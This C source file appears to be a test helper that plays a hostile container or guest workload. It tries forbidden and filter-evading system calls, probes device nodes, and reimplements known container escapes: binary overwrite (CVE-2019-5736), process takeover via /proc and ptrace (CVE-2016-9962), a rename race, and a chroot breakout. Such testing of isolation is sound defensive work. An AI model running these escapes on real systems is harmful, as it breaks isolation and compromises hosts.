/* What a hostile workload tries, as a static program that tests bring into a container or a guest.
 *
 *	attack calls                each forbidden system call: "NAME ok", "NAME ERRNO" or "NAME signal N" a line
 *	attack devices              every device that sysfs shows: "NODE ok" for each that could be opened
 *	attack exe SECONDS          overwrite the program of a process that joins us (CVE-2019-5736)
 *	attack join SECONDS         descriptors, memory and control of a process that joins us (CVE-2016-9962)
 *	attack swap A B SECONDS     exchange two names without rest (CVE-2021-30465)
 *	attack wait SOCKET          listen, say "listening", and hold whoever connects
 *	attack climb                leave a chroot by a second one and "..", and list what is above
 *	attack spoil MEGABYTES      write to memory, then give it back, twice
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NEWUSER 0x10000000
#define NEWNS 0x00020000
#define X32_BIT 0x40000000
#define AF_ALG_FAMILY 38
#define AF_VSOCK_FAMILY 40

static char area[65536] __attribute__((aligned(64)));

static long own_namespace(void)
{
	int fd = open("/proc/self/ns/uts", O_RDONLY);
	return syscall(SYS_setns, fd, 0);
}

static long clone3_call(void)
{
	uint64_t arguments[8] = {NEWUSER, 0, 0, 0, SIGCHLD};
	long pid = syscall(SYS_clone3, arguments, sizeof(arguments));
	if (pid == 0)
		_exit(0);
	return pid;
}

static long clone_user(void)
{
	long pid = syscall(SYS_clone, NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0)
		_exit(0);
	return pid;
}

static long open_by_handle(void)
{
	struct {
		unsigned bytes;
		int type;
		uint64_t value;
	} handle = {8, 1, 2};
	return syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY);
}

/* The same kernel by other doors: numbers of another architecture pass by a filter that looks at numbers only. */
static long int80_getpid(void)
{
	long answer = 20; /* getpid of i386 */
	__asm__ volatile("int $0x80" : "+a"(answer) : : "memory", "r8", "r9", "r10", "r11");
	errno = (int)-answer;
	return answer < 0 ? -1 : answer;
}

static long io_uring_call(void)
{
	struct io_uring_params parameters = {0};
	return syscall(SYS_io_uring_setup, 4, &parameters);
}

static long settime(void)
{
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	return syscall(SYS_clock_settime, CLOCK_REALTIME, &now);
}

static long remount_sysfs(void)
{
	return mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
}

#define S(number, ...) (syscall(number, ##__VA_ARGS__))
#define CALL(text, expression)                                                                                         \
	static long call_##text(void)                                                                                  \
	{                                                                                                              \
		return expression;                                                                                     \
	}
CALL(unshare_user, S(SYS_unshare, NEWUSER))
CALL(unshare_mount, S(SYS_unshare, NEWNS))
CALL(mount, S(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL))
CALL(mount_cgroup1, S(SYS_mount, "cgroup", "/tmp", "cgroup", 0, "rdma"))
CALL(umount2, S(SYS_umount2, "/proc/kcore", MNT_DETACH))
CALL(pivot_root, S(SYS_pivot_root, "/", "/"))
CALL(open_tree, S(SYS_open_tree, AT_FDCWD, "/", 1))
CALL(move_mount, S(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/tmp", 0))
CALL(fsopen, S(SYS_fsopen, "tmpfs", 0))
CALL(mount_setattr, S(SYS_mount_setattr, AT_FDCWD, "/", 0, area, 32))
CALL(userfaultfd, S(SYS_userfaultfd, 0))
CALL(bpf, S(SYS_bpf, 0, area, 64))
CALL(perf_event_open, S(SYS_perf_event_open, area, 0, -1, -1, 0))
CALL(keyctl, S(SYS_keyctl, 0, -3, 1))
CALL(add_key, S(SYS_add_key, "user", "x", "y", 1, -3))
CALL(request_key, S(SYS_request_key, "user", "x", NULL, -3))
CALL(init_module, S(SYS_init_module, area, 0, ""))
CALL(finit_module, S(SYS_finit_module, 0, "", 0))
CALL(delete_module, S(SYS_delete_module, "loop", O_NONBLOCK))
CALL(kexec_load, S(SYS_kexec_load, 0, 0, NULL, 0))
CALL(kexec_file_load, S(SYS_kexec_file_load, -1, -1, 0, "", 0))
CALL(reboot, S(SYS_reboot, 0xfee1dead, 672274793, 0, NULL))
CALL(swapon, S(SYS_swapon, "/tmp/none", 0))
CALL(acct, S(SYS_acct, NULL))
CALL(syslog, S(SYS_syslog, 3, area, 100))
CALL(fanotify_init, S(SYS_fanotify_init, 0, 0))
CALL(move_pages, S(SYS_move_pages, 0, 0, NULL, NULL, NULL, 0))
CALL(process_vm_writev, S(SYS_process_vm_writev, getpid(), NULL, 0, NULL, 0, 0))
CALL(kcmp, S(SYS_kcmp, getpid(), getpid(), 0, 0, 0))
CALL(iopl, S(SYS_iopl, 3))
CALL(ioperm, S(SYS_ioperm, 0x70, 1, 1))
CALL(quotactl, S(SYS_quotactl, 0x800002, NULL, 0, area))
CALL(sethostname, S(SYS_sethostname, "x", 1))
CALL(vhangup, S(SYS_vhangup))
CALL(personality_of_another, S(SYS_personality, 0x0040000))
CALL(socket_alg, socket(AF_ALG_FAMILY, SOCK_SEQPACKET, 0))
CALL(socket_vsock, socket(AF_VSOCK_FAMILY, SOCK_STREAM, 0))
CALL(x32_getpid, S(X32_BIT | SYS_getpid))

static const struct {
	const char *name;
	long (*call)(void);
} CALLS[] = {
	{"unshare-user", call_unshare_user},
	{"unshare-mount", call_unshare_mount},
	{"setns", own_namespace},
	{"clone-user", clone_user},
	{"clone3", clone3_call},
	{"mount", call_mount},
	{"mount-cgroup1", call_mount_cgroup1},
	{"remount", remount_sysfs},
	{"umount2", call_umount2},
	{"pivot_root", call_pivot_root},
	{"open_tree", call_open_tree},
	{"move_mount", call_move_mount},
	{"fsopen", call_fsopen},
	{"mount_setattr", call_mount_setattr},
	{"io_uring_setup", io_uring_call},
	{"userfaultfd", call_userfaultfd},
	{"bpf", call_bpf},
	{"perf_event_open", call_perf_event_open},
	{"keyctl", call_keyctl},
	{"add_key", call_add_key},
	{"request_key", call_request_key},
	{"init_module", call_init_module},
	{"finit_module", call_finit_module},
	{"delete_module", call_delete_module},
	{"kexec_load", call_kexec_load},
	{"kexec_file_load", call_kexec_file_load},
	{"reboot", call_reboot},
	{"swapon", call_swapon},
	{"acct", call_acct},
	{"syslog", call_syslog},
	{"fanotify_init", call_fanotify_init},
	{"move_pages", call_move_pages},
	{"process_vm_writev", call_process_vm_writev},
	{"kcmp", call_kcmp},
	{"iopl", call_iopl},
	{"ioperm", call_ioperm},
	{"quotactl", call_quotactl},
	{"sethostname", call_sethostname},
	{"vhangup", call_vhangup},
	{"clock_settime", settime},
	{"open_by_handle_at", open_by_handle},
	{"personality", call_personality_of_another},
	{"socket-alg", call_socket_alg},
	{"socket-vsock", call_socket_vsock},
	{"int80", int80_getpid},
	{"x32", call_x32_getpid},
};

/* Each in a process of its own: one that succeeds would change what the next one finds. */
static int try_calls(void)
{
	for (size_t i = 0; i < sizeof(CALLS) / sizeof(CALLS[0]); i++) {
		int status;
		pid_t pid = fork();
		if (pid == 0)
			_exit(CALLS[i].call() < 0 ? errno : 0);
		waitpid(pid, &status, 0);
		if (WIFSIGNALED(status))
			printf("%s signal %d\n", CALLS[i].name, WTERMSIG(status));
		else if (WEXITSTATUS(status))
			printf("%s %d\n", CALLS[i].name, WEXITSTATUS(status));
		else
			printf("%s ok\n", CALLS[i].name);
	}
	return 0;
}

static void try_device(mode_t kind, const char *numbers)
{
	static const int modes[] = {O_RDONLY, O_WRONLY, O_RDWR};
	unsigned major, minor;
	if (sscanf(numbers, "%u:%u", &major, &minor) != 2)
		return;
	unlink("/tmp/node");
	if (mknod("/tmp/node", kind | 0666, makedev(major, minor)) < 0) {
		printf("%c %s cannot be made: %s\n", kind == S_IFCHR ? 'c' : 'b', numbers, strerror(errno));
		return;
	}
	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int fd = open("/tmp/node", modes[i] | O_NONBLOCK | O_NOCTTY);
		if (fd >= 0 || (errno != EPERM && errno != EACCES))
			printf("%c %s %s\n", kind == S_IFCHR ? 'c' : 'b', numbers, fd < 0 ? strerror(errno) : "ok");
		if (fd >= 0) {
			close(fd);
			break;
		}
	}
}

static int try_devices(void)
{
	static const struct {
		const char *path;
		mode_t kind;
	} KINDS[] = {{"/sys/dev/char", S_IFCHR}, {"/sys/dev/block", S_IFBLK}};
	int count = 0;
	mkdir("/tmp", 01777);
	for (size_t i = 0; i < 2; i++) {
		DIR *list = opendir(KINDS[i].path);
		for (struct dirent *entry; list && (entry = readdir(list));)
			if (entry->d_name[0] != '.') {
				try_device(KINDS[i].kind, entry->d_name);
				count++;
			}
		if (list)
			closedir(list);
	}
	unlink("/tmp/node");
	printf("tried %d\n", count);
	return 0;
}

static double seconds(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void say(const char *format, int pid, const char *what)
{
	printf(format, pid, what);
	fflush(stdout);
}

static bool same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* True for a program that is neither the image's shell nor this one: then it is the launcher. */
static bool is_foreign(const struct stat *program)
{
	struct stat ours, shell;
	return stat("/proc/self/exe", &ours) == 0 && stat("/bin/busybox", &shell) == 0 && !same_file(program, &ours) &&
	       !same_file(program, &shell);
}

/* The program of a process from outside: end the process, so that the file is busy no more, and open it to write. */
static void overwrite(int pid)
{
	char path[64];
	struct stat program;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		return;
	if (fstat(fd, &program) == 0 && is_foreign(&program)) {
		say("reached %d%s\n", pid, "");
		kill(pid, SIGKILL);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		/* While a supervisor runs from the same file it is busy for writers; its mode shows the mount's mind.
		 */
		int writable = open(path, O_WRONLY);
		for (int i = 0; i < 100 && writable < 0 && errno == ETXTBSY; i++) {
			usleep(1000);
			writable = open(path, O_WRONLY);
		}
		if (writable >= 0 || chmod(path, program.st_mode & 07777) == 0)
			say("overwritten %d%s\n", pid, "");
		else
			say("refused %d %s\n", pid, strerror(errno));
		close(writable);
	}
	close(fd);
}

static void peek_descriptors(int pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *list = opendir(path);
	for (struct dirent *entry; list && (entry = readdir(list));) {
		char target[256] = "";
		if (atoi(entry->d_name) > 2 && readlinkat(dirfd(list), entry->d_name, target, sizeof(target) - 1) > 0)
			say("descriptor of %d: %s\n", pid, target);
	}
	if (list)
		closedir(list);
}

/* Whoever has a program that is not of this root has not yet become one of us. */
static void take_over(int pid)
{
	char path[64];
	struct stat program;
	peek_descriptors(pid);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &program) < 0 || !is_foreign(&program))
		return;
	say("program of %d is seen%s\n", pid, "");
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	int fd = open(path, O_RDWR);
	if (fd >= 0)
		say("memory of %d is open%s\n", pid, "");
	close(fd);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
		say("%d is traced%s\n", pid, "");
}

/* Look at every process that there is, again and again. */
static int watch(void (*attempt)(int pid), double duration)
{
	int first = getpid(), rounds = 0, seen = 0, last = 0;
	for (double until = seconds() + duration; seconds() < until; rounds++) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; processes && (entry = readdir(processes));) {
			int pid = atoi(entry->d_name);
			if (pid <= first)
				continue;
			seen += pid != last;
			last = pid;
			attempt(pid);
		}
		closedir(processes);
	}
	printf("rounds %d, processes %d\n", rounds, seen);
	return 0;
}

static int swap(const char *a, const char *b, double duration)
{
	printf("swapping\n");
	fflush(stdout);
	for (double until = seconds() + duration; seconds() < until;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return errno;
	return 0;
}

static int hold(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	strncpy(address.sun_path, path, sizeof(address.sun_path) - 1);
	mkdir("/tmp", 01777);
	unlink(path);
	if (bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0 || listen(fd, 5) < 0)
		return errno;
	printf("listening\n");
	fflush(stdout);
	for (;;)
		pause();
}

static int spoil(size_t megabytes)
{
	for (int i = 0; i < 2; i++) {
		size_t length = megabytes << 20;
		char *memory = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (memory == MAP_FAILED)
			return errno;
		memset(memory, 0xa5, length);
		madvise(memory, length, MADV_DONTNEED);
		munmap(memory, length);
	}
	printf("spoiled\n");
	return 0;
}

static int climb(void)
{
	mkdir("/inner", 0755);
	if (chroot("/inner") < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return errno;
	DIR *top = chroot(".") < 0 ? NULL : opendir("/");
	for (struct dirent *row; top && (row = readdir(top));)
		printf("%s\n", row->d_name);
	return top ? 0 : errno;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "calls"))
		return try_calls();
	if (!strcmp(what, "climb"))
		return climb();
	if (!strcmp(what, "devices"))
		return try_devices();
	if (!strcmp(what, "exe") && argc == 3)
		return watch(overwrite, atof(argv[2]));
	if (!strcmp(what, "join") && argc == 3)
		return watch(take_over, atof(argv[2]));
	if (!strcmp(what, "swap") && argc == 5)
		return swap(argv[2], argv[3], atof(argv[4]));
	if (!strcmp(what, "wait") && argc == 3)
		return hold(argv[2]);
	if (!strcmp(what, "spoil") && argc == 3)
		return spoil((size_t)atoi(argv[2]));
	return 64;
}
